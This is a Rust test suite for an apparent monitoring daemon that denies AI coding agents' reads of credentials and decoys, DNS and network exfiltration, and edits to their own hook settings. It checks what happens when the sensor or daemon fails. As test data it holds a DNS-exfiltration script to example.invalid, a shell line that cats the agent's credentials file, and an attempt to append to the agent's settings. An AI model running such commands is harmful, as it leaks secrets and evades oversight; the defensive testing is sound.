//! The real sensor and the real daemon in mode enforce, and what goes wrong with them: each is killed,
//! is silent or has no disk; denials come back with them, none stays without them, nothing hangs. And a
//! session that is held still, let go on and ended while the sensor looks.

use ringfence_tests::home::{Home, KEY_CONTENT};
use ringfence_tests::run::until;
use ringfence_tests::scene::{SESSION, Scene};
use rustix::process::{Signal, kill_process};
use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

const ENFORCE: &str = "mode = \"enforce\"";

/// A scene in which a key is denied.
fn enforcing() -> Scene {
    let mut scene = Scene::new(ENFORCE).with_thief();
    scene.wait_for_denials();
    assert!(!scene.steals());
    scene
}

/// Waits until a key is denied again, and until it is not.
fn until_it_steals(scene: &mut Scene, whether: bool) {
    until(&format!("the key is printed: {whether}"), || {
        scene.steals() == whether
    });
}

#[test]
fn a_killed_sensor_denies_nothing_and_denies_again_when_it_is_back() {
    let mut scene = enforcing();
    scene.sensor.signal(Signal::KILL);
    // The kernel takes everything down with the process.
    until_it_steals(&mut scene, true);
    until("the daemon knows", || scene.status()["connected"] == false);
    scene.sensor.start_again(&scene.home);
    until_it_steals(&mut scene, false);
    // It is the same session: the tree is watched again from its root.
    let key = scene.key();
    let denied = scene.wait_for("file", |event| event["action"]["path"] == key.as_str());
    assert_eq!(denied["event"]["session"], SESSION, "{denied:#}");
    let lost = scene.home.json(&["events", "--kind", "lost", "--json"]);
    assert_ne!(
        lost["events"],
        Value::Array(Vec::new()),
        "what was missed is not told"
    );
    scene.sensor.stop();
    until_it_steals(&mut scene, true);
}

#[test]
fn a_killed_daemon_denies_nothing_and_denies_again_when_it_is_back() {
    let mut scene = enforcing();
    kill_process(scene.home.daemon(), Signal::KILL).expect("the daemon runs");
    // Straight from below the agent: a hook without a daemon would wait for nobody either.
    until("the sensor lifts its denials", || {
        scene.agent.run("sh ./tool.sh 2>&1").contains(KEY_CONTENT)
    });
    scene.home.up();
    until_it_steals(&mut scene, false);
}

#[test]
fn denials_lapse_while_the_daemon_is_silent() {
    let mut scene = enforcing();
    let daemon = scene.home.daemon();
    kill_process(daemon, Signal::STOP).expect("the daemon runs");
    until("the watchdog lifts denials", || {
        scene.agent.run("sh ./tool.sh 2>&1").contains(KEY_CONTENT)
    });
    kill_process(daemon, Signal::CONT).expect("the daemon runs");
    until_it_steals(&mut scene, false);
}

#[test]
fn a_released_machine_denies_nothing_until_that_is_taken_back() {
    let mut scene = enforcing();
    drop(scene.home.ringfence(&["release"]).ok());
    assert!(scene.steals());
    drop(scene.home.ringfence(&["release", "--undo"]).ok());
    until_it_steals(&mut scene, false);
}

/// A small file system in memory; gone with the test.
struct SmallDisk(PathBuf);

impl SmallDisk {
    fn mount(at: &Path) -> SmallDisk {
        fs::create_dir_all(at).expect("a directory");
        let mounted = Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=4m,mode=0700", "tmpfs"])
            .arg(at)
            .status();
        assert!(mounted.expect("mount runs").success());
        SmallDisk(at.to_owned())
    }

    /// Leaves no byte of it free.
    fn fill(&self) -> PathBuf {
        let path = self.0.join("filler");
        // As far as it goes.
        drop(fs::write(&path, vec![0; 8 * 1024 * 1024]));
        path
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        drop(Command::new("umount").arg("--lazy").arg(&self.0).status());
    }
}

#[test]
fn a_full_disk_keeps_no_denial_from_being_made() {
    let home = Home::new().with_key();
    let disk = SmallDisk::mount(&home.data());
    let mut scene = Scene::with(home, ENFORCE, &[]).with_thief();
    scene.wait_for_denials();
    let filler = disk.fill();
    for _ in 0..20 {
        assert!(!scene.steals());
    }
    assert_eq!(scene.status()["report"]["enforcing"], true);
    fs::remove_file(filler).expect("it was written");
    let key = scene.key();
    scene.wait_for("file", |event| event["action"]["path"] == key.as_str());
    assert!(!scene.steals());
}

/// Whether the kernel says that all of a control group is frozen.
fn is_frozen(group: &Path) -> bool {
    let events = fs::read_to_string(group.join("cgroup.events")).expect("a control group");
    events.lines().any(|line| line == "frozen 1")
}

/// The process that a shell line below the agent left its number of in a file.
fn number_in(scene: &Scene, file: &str) -> u32 {
    let path = scene.home.project().join(file);
    let mut pid = None;
    until("the process runs", || {
        pid = fs::read_to_string(&path)
            .ok()
            .and_then(|text| text.trim().parse().ok());
        pid.is_some()
    });
    pid.expect("a number")
}

fn state_of(pid: u32) -> Option<char> {
    let line = fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    line.rsplit_once(") ")?.1.chars().next()
}

fn moments(scene: &Scene) -> Vec<(String, String)> {
    let events = scene.home.json(&["events", "--kind", "other", "--json"]);
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let events = events["events"].as_array().expect("a list").iter();
    let of_the_host = events.filter(|stored| stored["event"]["source"] == "host");
    of_the_host
        .map(|stored| {
            (
                text(&stored["event"]["moment"]),
                text(&stored["event"]["rest"]["how"]),
            )
        })
        .collect()
}

/// Holds a session still, lets it go on and ends it; `stopped` says whether it stands still.
fn holds_and_ends(scene: &mut Scene, how: &str, stopped: impl Fn(&Scene, u32) -> bool) {
    drop(scene.runs(
        "(setsid sh -c \"echo \\$\\$ > pid; while :; do sleep 0.05; done\" >/dev/null 2>&1 &)",
    ));
    let pid = number_in(scene, "pid");
    drop(scene.home.ringfence(&["suspend", SESSION]).ok());
    until("the session stands still", || stopped(scene, pid));
    drop(scene.home.ringfence(&["resume", SESSION]).ok());
    until("the session goes on", || !stopped(scene, pid));
    assert_eq!(scene.agent.run("echo alive"), "alive\n");
    drop(scene.home.ringfence(&["stop", SESSION]).ok());
    until("the orphan has ended", || {
        matches!(state_of(pid), None | Some('Z'))
    });
    let told: Vec<(String, String)> = ["suspended", "resumed", "stopped"]
        .map(|moment| (moment.to_owned(), how.to_owned()))
        .into();
    assert_eq!(moments(scene), told);
}

#[test]
fn a_session_in_a_control_group_of_its_own_is_frozen() {
    let mut scene = Scene::new("");
    holds_and_ends(&mut scene, "freezer", |scene, _| {
        is_frozen(scene.sensor.group())
    });
}

#[test]
fn a_session_that_shares_its_control_group_is_stopped_by_signals() {
    let mut scene = Scene::new("");
    let mut stranger = scene
        .home
        .command("sleep")
        .arg("600")
        .spawn()
        .expect("sleep runs");
    scene.sensor.takes_in(stranger.id());
    holds_and_ends(&mut scene, "signals", |_, pid| state_of(pid) == Some('T'));
    assert_eq!(
        stranger.try_wait().expect("it is ours"),
        None,
        "who is no part of it goes on"
    );
    stranger.kill().expect("it runs");
    stranger.wait().expect("it is ours");
}

/// Asks for a name that holds what a command printed, as data leaves in names; then connects.
const LEAK: &str =
    "ping -c 1 -W 1 $(echo secret | md5sum | cut -c1-16).example.invalid\npython3 reach.py\n";

/// Says what came of a connection to an address that nobody has.
const REACH: &str = "import socket\ns = socket.socket()\ns.settimeout(1)\nprint('errno', s.connect_ex(('192.0.2.1', 9)))\n";

#[test]
fn names_and_addresses_are_seen_and_denied_on_request() {
    let mut scene = Scene::new("");
    scene.home.write("project/reach.py", REACH);
    // A script, so that no hook can know what it asks for.
    scene.home.write("project/leak.sh", LEAK);
    let asked = |event: &Value| {
        let name = event["action"]["name"].as_str().unwrap_or_default();
        name.ends_with(".example.invalid") && name.len() > 30
    };
    let reached = |event: &Value| event["action"]["address"] == "192.0.2.1";
    let printed = scene.runs("sh ./leak.sh");
    assert!(!printed.contains("errno 1\n"), "{printed}");
    for (kind, seen) in [
        ("dns_query", scene.wait_for("dns_query", asked)),
        ("connect", scene.wait_for("connect", reached)),
    ] {
        assert_ne!(seen["verdict"], "deny", "{kind}: {seen:#}");
        assert_eq!(seen["event"]["session"], SESSION, "{seen:#}");
    }
    drop(scene.home.ringfence(&["lock", SESSION]).ok());
    // EPERM
    until("the lock holds", || {
        scene.runs("sh ./leak.sh").contains("errno 1\n")
    });
    let denied = |event: &Value| event["action"]["error"] == 1;
    for seen in [
        scene.wait_for("dns_query", |event| asked(event) && denied(event)),
        scene.wait_for("connect", |event| reached(event) && denied(event)),
    ] {
        assert_eq!(seen["verdict"], "deny", "{seen:#}");
        assert!(denial(&seen, "session-locked").is_some(), "{seen:#}");
    }
    drop(scene.home.ringfence(&["unlock", SESSION]).ok());
    until("the lock is gone", || {
        !scene.runs("sh ./leak.sh").contains("errno 1\n")
    });
}

/// The finding by which a rule denied an event.
fn denial(stored: &Value, rule: &str) -> Option<String> {
    let findings = stored["findings"].as_array()?;
    let denied = |finding: &&Value| finding["rule"] == rule && finding["verdict"] == "deny";
    let finding = findings.iter().find(denied)?;
    finding["id"].as_str().map(str::to_owned)
}

#[test]
fn what_a_person_allows_is_not_denied_until_it_was_done() {
    let mut scene = enforcing();
    let key = scene.key();
    let denied = scene.wait_for("file", |event| event["action"]["path"] == key.as_str());
    assert_eq!(denied["verdict"], "deny", "{denied:#}");
    let finding = denial(&denied, "credential-read").expect("a finding");
    drop(scene.home.ringfence(&["allow", &finding]).ok());
    until_it_steals(&mut scene, true);
    // Once: it is used up as soon as the daemon has seen it.
    until_it_steals(&mut scene, false);
    let allowed = scene.home.json(&["allow", "list", "--json"]);
    assert_eq!(allowed["allowances"], Value::Array(Vec::new()));
    // For the whole project: until it is taken back.
    drop(
        scene
            .home
            .ringfence(&["allow", "credential-read", "--project"])
            .ok(),
    );
    until_it_steals(&mut scene, true);
    let allowed = scene.home.json(&["allow", "list", "--json"]);
    let name = allowed["allowances"][0]["finding"]
        .as_str()
        .expect("a name")
        .to_owned();
    drop(scene.home.ringfence(&["allow", "remove", &name]).ok());
    until_it_steals(&mut scene, false);
}

#[test]
fn decoys_and_agents_logins_are_denied_to_what_an_agent_runs() {
    let home = Home::new().with_key();
    home.write(
        ".claude/.credentials.json",
        "{\"token\":\"agents-own-login\"}",
    );
    home.write(".claude/settings.json", "{}\n");
    drop(home.ringfence(&["canary", "plant"]).ok());
    let mut scene = Scene::with(home, ENFORCE, &[]);
    scene.wait_for_denials();
    let decoys = scene.home.json(&["canary", "list", "--json"]);
    let decoy = decoys["canaries"][0]["path"]
        .as_str()
        .expect("a decoy")
        .to_owned();
    let text = fs::read_to_string(&decoy).expect("who is outside may read it");
    let last = text
        .trim_end()
        .lines()
        .last()
        .expect("it holds something")
        .to_owned();
    scene.home.write(
        "project/reads.sh",
        &format!("cat {decoy} ~/.claude/.credentials.json\n"),
    );
    let printed = scene.runs("sh ./reads.sh");
    assert!(
        !printed.contains(&last) && !printed.contains("agents-own-login"),
        "{printed}"
    );
    let told = scene.wait_for("file", |event| event["action"]["path"] == decoy.as_str());
    assert_eq!(told["verdict"], "deny", "{told:#}");
    assert!(denial(&told, "canary-read").is_some(), "{told:#}");
    // The agent itself reads its login: the shell that plays it has the word for that built in.
    let own = scene
        .agent
        .run("read -r line < ~/.claude/.credentials.json; echo $line");
    assert!(own.contains("agents-own-login"), "{own}");
    // What it runs does not put itself among its hooks.
    drop(
        scene
            .agent
            .run("sh -c 'echo evil >> ~/.claude/settings.json' 2>&1"),
    );
    assert_eq!(scene.home.read(".claude/settings.json"), "{}\n");
    drop(scene.agent.run("echo '{ }' > ~/.claude/settings.json"));
    assert_eq!(scene.home.read(".claude/settings.json"), "{ }\n");
}
